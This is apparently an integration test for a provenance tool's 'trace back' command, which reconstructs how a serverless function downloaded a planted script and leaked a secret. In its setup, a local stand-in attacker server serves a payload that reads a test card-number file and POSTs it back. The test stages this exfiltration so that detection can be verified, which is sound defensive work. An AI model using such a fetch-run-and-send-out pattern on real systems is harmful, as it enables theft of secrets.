// `alastor trace back ip:port` on a real run where the attacker's one server both served the payload
// and received the stolen data (as in Hello Retail): the real collector, two functions under the
// real fwatchdog (provenance and audit on) behind the local gateway. Request one downloads a script
// through the egress proxy and plants it; request two runs it, and it reads a secret file and posts
// it to the same server. The endpoint then matches the download and the exfiltration: the trace
// must list both, walk from the latest (the exfiltration) and say so, let --at, --last, --all and a
// node id choose, and list the files read and written along the path (the planted script, the secret).
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startCollector, stopAllCollectors, type CollectorHandle } from '../support/collector';
import { stopAllWatchdogs, type WatchdogHandle } from '../support/watchdog';
import { call, waitFor } from '../support/provenance';
import { startGraphPair, type GraphPair } from '../support/graph-pair';
import type { Gateway } from '../../cli/stack/gateway';
import { usToIso } from '../../events/time';

const TOKEN = 'graph-trace-matches';

let c: CollectorHandle;
let gw: Gateway;
let attacker: Server;
let dir: string;
let secret: string;
let stolen: Promise<string>;
let wds: WatchdogHandle[] = [];
let pair: GraphPair | undefined;
const portOf = (s: Server) => (s.address() as AddressInfo).port;

beforeAll(async () => {
  c = await startCollector({ token: TOKEN });
  dir = mkdtempSync(join(tmpdir(), 'alastor-trace-matches-'));
  // Under /tmp, where audit records reads (docs/audit.md).
  secret = join(dir, 'cards.json');
  writeFileSync(secret, '{"4111-1111-1111-1111":"ada"}');
  let gotIt: (s: string) => void;
  stolen = new Promise((r) => (gotIt = r));
  attacker = createServer((req, res) => {
    let b = '';
    req.on('data', (x) => (b += x));
    req.on('end', () => {
      if (req.method === 'POST') {
        res.end('ok');
        gotIt(b);
        return;
      }
      res.end(`sleep 1\nexec ${process.execPath} -e "require('http').request({host:'127.0.0.1',port:${portOf(attacker)},method:'POST',path:'/exfil'}).end(require('fs').readFileSync('${secret}'))"\n`);
    });
  });
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', () => r()));
  pair = await startGraphPair({ collectorUrl: c.url, token: TOKEN, payloadUrl: `http://127.0.0.1:${portOf(attacker)}/payload.sh`, plantPath: join(dir, 'planted.sh') });
  gw = pair.gw;
  wds = pair.wds;
}, 90000);

afterAll(async () => {
  await stopAllWatchdogs();
  await pair?.close();
  attacker?.close();
  await c?.stop();
  await stopAllCollectors();
  rmSync(dir, { recursive: true, force: true });
});

interface Match { id: string; kind: string; time?: number; invocation?: string }
interface Trace { start: string[]; path: string[]; roots: string[]; nodes: Array<{ id: string; kind: string; time?: number }>; matches?: Match[]; chosen?: string }

const re = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

test('an endpoint that served the payload and received the data: the matches, the walk from the latest, the choices, the files', async () => {
  const ids: string[] = [];
  for (const step of ['one', 'two']) {
    const r = await call(`${gw.url}/function/front`, { body: JSON.stringify({ step }), headers: { 'content-type': 'application/json' } });
    expect(`${r.status} ${r.status === 200 ? '' : r.body.toString() + wds.map((w) => w.logs()).join('\n')}`).toBe('200 ');
    ids.push(r.headers['x-alastor-invocation'] as string);
  }
  expect(await stolen).toContain('4111-1111-1111-1111');
  const port = portOf(attacker);
  const endpoint = `127.0.0.1:${port}`;
  await waitFor(() => c.query<{ n: number }>(`SELECT count(*) AS n FROM events WHERE kind = 'invocation.end'`)[0].n >= 4, 20000, 'four finished invocations');
  await waitFor(() => c.query(`SELECT 1 FROM events WHERE kind = 'http.out' AND body LIKE ?`, `%:${port}/payload.sh%`).length, 20000, 'the proxied download');
  const audited = c.query<{ n: number }>(`SELECT count(*) AS n FROM events WHERE kind = 'syscall' AND function = 'front'`)[0].n;
  if (!audited && process.env.CI !== 'true') {
    console.log('skipping: no syscall events (Linux audit unavailable here), so no exfiltration connection to tell apart');
    return;
  }
  await waitFor(() => c.query(`SELECT 1 FROM events WHERE kind = 'syscall' AND json_extract(body, '$.syscall') = 'connect' AND json_extract(body, '$.sockaddr.port') = ?`, port).length, 20000, 'the exfiltration connect');
  await waitFor(() => c.query(`SELECT 1 FROM events WHERE kind = 'syscall' AND body LIKE ?`, `%${secret}%`).length, 20000, 'the read of the secret');

  // --all: every match, oldest first, and the walk from all of them (the old behaviour).
  const all = JSON.parse((await c.cli(['trace', 'back', endpoint, '--all', '--json'])).stdout) as Trace;
  const matches = all.matches!;
  expect(all.chosen).toBe('all');
  expect(all.start.sort()).toEqual(matches.map((m) => m.id).sort());
  const download = matches.find((m) => m.kind === 'message' && m.invocation === ids[0])!;
  const exfil = matches.find((m) => m.kind === 'socket' && m.time! > download.time!)!;
  expect(download).toBeDefined();
  expect(exfil).toBeDefined();
  const latest = matches[matches.length - 1];
  expect(latest.time).toBe(Math.max(...matches.map((m) => m.time ?? 0)));
  expect(latest.kind).toBe('socket');

  // By default: from the latest, which is the exfiltration, through the planted script to request one.
  const deflt = JSON.parse((await c.cli(['trace', 'back', endpoint, '--json'])).stdout) as Trace;
  expect(deflt.chosen).toBe('latest');
  expect(deflt.start).toEqual([latest.id]);
  expect(deflt.path[0]).toBe(latest.id);
  expect(deflt.path.some((id) => /^file:.*planted\.sh#\d+@1$/.test(id))).toBe(true);
  expect(deflt.path[deflt.path.length - 1]).toBe(`req:${ids[0]}`);
  // Each function's own egress proxy is part of the watchdog, not an outside endpoint.
  const proxies = c.query<{ p: string }>(`SELECT json_extract(body, '$.egressProxy') AS p FROM events WHERE kind = 'instance.start'`).map((r) => r.p).filter(Boolean);
  expect(proxies.length).toBe(2);
  for (const p of proxies) expect(deflt.roots).not.toContain(`remote:${p}`);

  const text = (await c.cli(['trace', 'back', endpoint])).stdout;
  expect(text).toMatch(new RegExp(`^backward trace from ${re(latest.id)}, the latest of the ${matches.length} connection\\(s\\) to ${re(endpoint)}: \\d+ nodes`));
  expect(text).toContain(`${endpoint} matches ${matches.length} nodes; the walk starts from the latest, marked >:`);
  // Every match on a line of its own: kind, time, invocation, id; the start marked.
  for (const m of matches) {
    const owner = m.invocation ? `invocation ${re(m.invocation)} \\(\\w+\\)` : 'no invocation';
    expect(text).toMatch(new RegExp(`^  ${m.id === latest.id ? '>' : ' '} ${m.kind} .*  ${re(usToIso(m.time!))}  ${owner}  ${re(m.id)}$`, 'm'));
  }
  expect(text).toContain(`invocation ${ids[0]} (front)`);
  expect(text).toContain('to walk from another: --at TIME (the one nearest TIME) or its id; --all walks from every one');

  // Under the path: the planted script (on it, written in request one, run in request two) and the
  // secret the sending process read.
  const files = text.slice(text.indexOf('\nfiles read and written along the path'), text.indexOf('\ndata received along the path'));
  expect(files).toMatch(/^\nfiles read and written along the path \(\d+; > on the path\):/);
  const planted = new RegExp(`^  > file ${re(join(dir, 'planted.sh'))} v1  file:\\S+\\n((?:      .*\\n)+)`, 'm').exec(files + '\n');
  expect(planted).not.toBeNull();
  expect(planted![1]).toMatch(new RegExp(`^      written by invocation front #\\d+ POST / \\(${re(ids[0])}\\) at \\S+Z`, 'm'));
  expect(planted![1]).toMatch(new RegExp(`^      read by process .* in invocation ${re(ids[1])} \\(front\\) at \\S+Z`, 'm'));
  const read = new RegExp(`^    file ${re(secret)}( v\\d+)?  file:\\S+\\n((?:      .*\\n)+)`, 'm').exec(files + '\n');
  expect(read).not.toBeNull();
  expect(read![2]).toMatch(/^      read by process .*node.* at \S+Z/m);

  // And the data the path's invocations took in: the payload from the attacker, back's answer.
  const data = text.slice(text.indexOf('\ndata received along the path'), text.indexOf('\nroots ('));
  expect(data).toMatch(/^\ndata received along the path \(\d+ message\(s\) its nodes used\):/);
  expect(data).toMatch(new RegExp(`^    message GET http://${re(endpoint)}/payload\\.sh  ${re(download.id)}\\n      from remote ${re(endpoint)}\\n      received by invocation front #\\d+ POST / \\(${re(ids[0])}\\) at \\S+Z$`, 'm'));
  expect(data).toMatch(/^      from invocation back #\d+ POST \/ \(\S+\)$/m);

  // --at the download's time: the walk from the download, and the text says which.
  const at = JSON.parse((await c.cli(['trace', 'back', endpoint, '--at', usToIso(download.time!), '--json'])).stdout) as Trace;
  expect(at.chosen).toBe('nearest');
  const atUs = Math.floor(download.time! / 1000) * 1000;
  const off = (m: Match) => Math.abs(m.time! - atUs);
  const nearest = matches.filter((m) => off(m) === Math.min(...matches.map(off))).pop()!;
  expect(at.start).toEqual([nearest.id]);
  expect(nearest.invocation).toBe(ids[0]);
  expect(at.path[at.path.length - 1]).toBe(`req:${ids[0]}`);
  const atText = (await c.cli(['trace', 'back', endpoint, '--at', usToIso(download.time!)])).stdout;
  expect(atText).toContain(`${endpoint} matches ${matches.length} nodes; the walk starts from the one nearest --at, marked >:`);
  expect(atText).toMatch(new RegExp(`^  > .*${re(nearest.id)}$`, 'm'));

  // --last is the default made explicit; a node id selects exactly, with no list.
  expect((JSON.parse((await c.cli(['trace', 'back', endpoint, '--last', '--json'])).stdout) as Trace).start).toEqual([latest.id]);
  const byId = (await c.cli(['trace', 'back', download.id])).stdout;
  expect(byId).toMatch(new RegExp(`^backward trace from ${re(download.id)}: `));
  expect(byId).not.toContain('matches');

  const both = await c.cli(['trace', 'back', endpoint, '--at', '1m', '--last']);
  expect(both.code).toBe(1);
  expect(both.stderr).toBe('alastor: give one of --all, --last and --at\n');
}, 120000);
